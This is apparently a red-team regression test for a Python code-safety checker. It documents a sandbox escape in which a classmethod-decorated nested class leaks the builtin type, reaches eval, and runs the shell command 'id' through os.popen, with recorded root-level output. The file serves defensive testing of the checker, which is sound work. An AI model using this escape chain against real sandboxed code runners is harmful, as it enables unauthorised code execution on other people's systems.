# expect: reject unbound
# line: 26
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fifteenth red team (round 15a), family C: what a class body binds under a name through which the interpreter hands over a class (@classmethod, __init_subclass__, __set_name__, __get__) is not the def the rule judges: a decorator's result or a class statement (the red team's program, ok_07)
# Mechanism: @classmethod decorating a CLASS statement in the body of Q(collections.Counter): Q.G() 
# calls G(Q), so G.__init__(self, k) receives Q, a class deriving from a library class, as a plain 
# parameter (received_libclass looks only at defs under @classmethod). box[0].copy(P) is 
# Counter.copy(P) = the builtin type. No dunder name is given to a builtin at run time.
# Goal reached: the builtin type by value, then eval (11b end gadget): runs id.
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD 7bb35ca
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing

class P:
    pass

box = []

class Q(collections.Counter):
    @classmethod
    class G:
        def __init__(self, k):
            box.append(k)

Q.G()
T = box[0].copy(P)
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
